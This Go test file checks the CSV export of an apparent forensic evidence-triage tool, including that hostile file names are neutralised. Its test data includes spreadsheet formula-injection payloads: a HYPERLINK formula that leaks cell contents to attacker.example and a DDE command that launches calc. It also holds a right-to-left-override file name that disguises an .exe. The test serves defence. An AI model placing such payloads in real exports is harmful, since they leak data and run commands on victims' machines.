package render

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/proofpack/proofpack/evidence"
)

// readCSV parses a CSV document into rows keyed by column name.
func readCSV(t *testing.T, b []byte) []map[string]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	require.NoError(t, err, "not CSV:\n%s", b)
	require.NotEmpty(t, recs)
	require.Equal(t, CSVColumns, recs[0], "header row")
	rows := make([]map[string]string, 0, len(recs)-1)
	for _, rec := range recs[1:] {
		require.Len(t, rec, len(CSVColumns))
		row := map[string]string{}
		for i, c := range CSVColumns {
			row[c] = rec[i]
		}
		rows = append(rows, row)
	}
	return rows
}

// TestCSVSample: one row per item of the sample pack, in the report's
// order, with its hashes, types, metadata, problems and the case.
func TestCSVSample(t *testing.T) {
	rep := *fixtureReports(t)["fujitsu-proofpack.zip"]
	rep.Case = evidence.Case{ID: "CASE-2026-0042", Analyst: "Aoi Tanabe", TLP: evidence.TLPAmber}
	var b bytes.Buffer
	require.NoError(t, CSV(&b, &rep))
	rows := readCSV(t, b.Bytes())
	require.Len(t, rows, len(rep.Items))
	for i, it := range rep.Items {
		r := rows[i]
		assert.Equal(t, Escape(it.Path), r["path"])
		assert.Equal(t, it.Kind, r["kind"])
		assert.Equal(t, it.SHA256, r["sha256"])
		assert.Equal(t, it.MD5, r["md5"])
		assert.Equal(t, strings.Join(it.Metadata.Hosts, "; "), r["hosts"], it.Path)
		assert.Equal(t, "CASE-2026-0042", r["case_id"])
		assert.Equal(t, "AMBER", r["tlp"])
	}
	byName := map[string]map[string]string{}
	for _, r := range rows {
		byName[r["path"][strings.LastIndex(r["path"], "/")+1:]] = r
	}
	po := byName["発注書_FJ-2021-0412.docx"]
	require.NotNil(t, po)
	assert.Equal(t, "document", po["kind"])
	assert.Equal(t, "4362", po["size"])
	assert.Equal(t, "高橋 美咲", po["authors"])
	assert.Equal(t, "佐藤 健一", po["last_modified_by"])
	assert.Equal(t, "東レ株式会社", po["organisation"])
	assert.Equal(t, "tfs01.toray.local", po["hosts"])
	assert.Equal(t, "2021-04-12T01:05:00Z", po["metadata_modified"])
	assert.Equal(t, "2021-04-12T10:05:00+09:00", po["modified"])
	assert.Equal(t, "body", po["text_source"])
	inv := byName["invoice.pdf"]
	assert.Equal(t, "true", inv["ext_mismatch"])
	assert.Equal(t, "pdf", inv["declared_ext"])
	assert.Equal(t, "docx", inv["detected_ext"])
	mail := byName["RE_保守契約の更新について.eml"]
	assert.Equal(t, "nakamura.koji@toray.co.jp; sato.kenichi@toray.co.jp; takahashi.misaki@toray.co.jp; morita.makoto@fujitsu.com", mail["emails"])
}

// TestCSVHostileNames: names a spreadsheet would run as formulas start
// with an apostrophe; hidden characters are escapes; problems are codes;
// OCR confidence is written when there is OCR.
func TestCSVHostileNames(t *testing.T) {
	var zb bytes.Buffer
	zw := zip.NewWriter(&zb)
	names := []string{
		`=HYPERLINK("http://attacker.example/?leak="&A1,"open").txt`,
		"+cmd|' /C calc'!A0.txt",
		"-2+3.txt",
		"@SUM(1+1).txt",
		"invoice_\u202Etxt.exe",
		"plain.txt",
	}
	for _, n := range names {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: n, Method: zip.Deflate, Modified: time.Date(2021, 4, 1, 9, 0, 0, 0, time.UTC)})
		require.NoError(t, err)
		_, err = w.Write([]byte("order list of Kumoi Trading\n"))
		require.NoError(t, err)
	}
	require.NoError(t, zw.Close())
	data := zb.Bytes()
	rep, err := evidence.AnalyzeReaderAt(t.Context(), "=pack.zip", bytes.NewReader(data), int64(len(data)),
		evidence.Options{TempDir: t.TempDir(), TLP: "red", Case: "@case"})
	require.NoError(t, err)
	// Problems and OCR as the triage would add them.
	rep.Items[0].Problems = append(rep.Items[0].Problems, evidence.Problem{Code: "corrupt"}, evidence.Problem{Code: "truncated"})
	rep.Items[1].OCR = &evidence.OCR{Confidence: 87.25}

	var b bytes.Buffer
	require.NoError(t, CSV(&b, rep))
	rows := readCSV(t, b.Bytes())
	require.Len(t, rows, len(names))
	want := []string{
		`'=pack.zip!/=HYPERLINK("http://attacker.example/?leak="&A1,"open").txt`,
		"'=pack.zip!/+cmd|' /C calc'!A0.txt",
		"'=pack.zip!/-2+3.txt",
		"'=pack.zip!/@SUM(1+1).txt",
		"'=pack.zip!/invoice_<U+202E>txt.exe",
		"'=pack.zip!/plain.txt",
	}
	for i, r := range rows {
		assert.Equal(t, want[i], r["path"])
		assert.Equal(t, "'@case", r["case_id"])
		assert.Equal(t, "RED", r["tlp"])
		assert.Equal(t, "text", r["kind"])
		assert.Equal(t, "false", r["encrypted"])
	}
	assert.Equal(t, "corrupt; truncated", rows[0]["problems"])
	assert.Equal(t, "87.2", rows[1]["ocr_confidence"])
	assert.Empty(t, rows[2]["ocr_confidence"])
	for _, line := range strings.Split(b.String(), "\n") {
		for _, cell := range strings.Split(line, ",") {
			c := strings.TrimPrefix(cell, `"`)
			assert.False(t, c != "" && strings.ContainsRune("=+-@", rune(c[0])), "a cell starts a formula: %q", cell)
		}
	}

	// Without items: the header row alone.
	b.Reset()
	require.NoError(t, CSV(&b, &evidence.Report{}))
	assert.Equal(t, strings.Join(CSVColumns, ",")+"\n", b.String())
	assert.Error(t, CSV(&b, nil))
}
